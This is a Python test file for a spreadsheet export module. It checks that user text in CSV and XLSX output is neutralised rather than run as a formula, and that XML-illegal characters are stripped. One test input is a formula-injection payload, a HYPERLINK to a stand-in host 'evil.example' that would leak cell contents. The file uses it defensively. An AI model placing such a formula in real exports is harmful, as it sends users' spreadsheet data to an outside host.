"""core.cells: user text never becomes a spreadsheet formula; XML-illegal characters dropped."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from pilotis.core.cells import csv_value, xlsx_value, xml_safe


@pytest.mark.parametrize(
    "text",
    [
        "=2+5",
        '=HYPERLINK("http://evil.example/?"&A1,"clic")',
        "+33",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert csv_value(text) == "'" + text


def test_plain_text_and_numbers_unchanged_in_csv():
    assert csv_value("Réalisé") == "Réalisé"
    assert csv_value(-3) == -3
    assert csv_value(2.5) == 2.5
    assert csv_value(None) is None


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    wb = Workbook()
    ws = wb.active
    xlsx_value(ws.cell(1, 1), "=2+5")
    xlsx_value(ws.cell(1, 2), 3.5)
    xlsx_value(ws.cell(1, 3), "a\x01b\ufffe")
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    row = load_workbook(buffer).active[1]
    assert [(c.value, c.data_type) for c in row] == [("=2+5", "s"), (3.5, "n"), ("ab", "s")]


def test_xml_safe_keeps_tabs_and_newlines():
    assert xml_safe("a\tb\nc\r\x00d\x1f") == "a\tb\nc\rd"


def test_a_csv_cell_reads_back_as_written():
    from pilotis.core.cells import csv_text

    for text in ("=2+5", "-1", "@x", "Réalisé", "'déjà cité'"):
        assert csv_text(str(csv_value(text))) == text


def test_xml_safe_tree_cleans_nested_dataclasses_and_keeps_clean_parts():
    from dataclasses import dataclass

    from pilotis.core.cells import xml_safe_tree

    @dataclass(frozen=True)
    class Row:
        text: str
        number: int = 1

    clean = Row("propre")
    tree = {"rows": [clean, Row("sale\x01\ufffe")], "pair": ("a\x0b", 2)}
    cleaned = xml_safe_tree(tree)
    assert cleaned == {"rows": [clean, Row("sale")], "pair": ("a", 2)}
    assert cleaned["rows"][0] is clean
    assert xml_safe_tree(clean) is clean
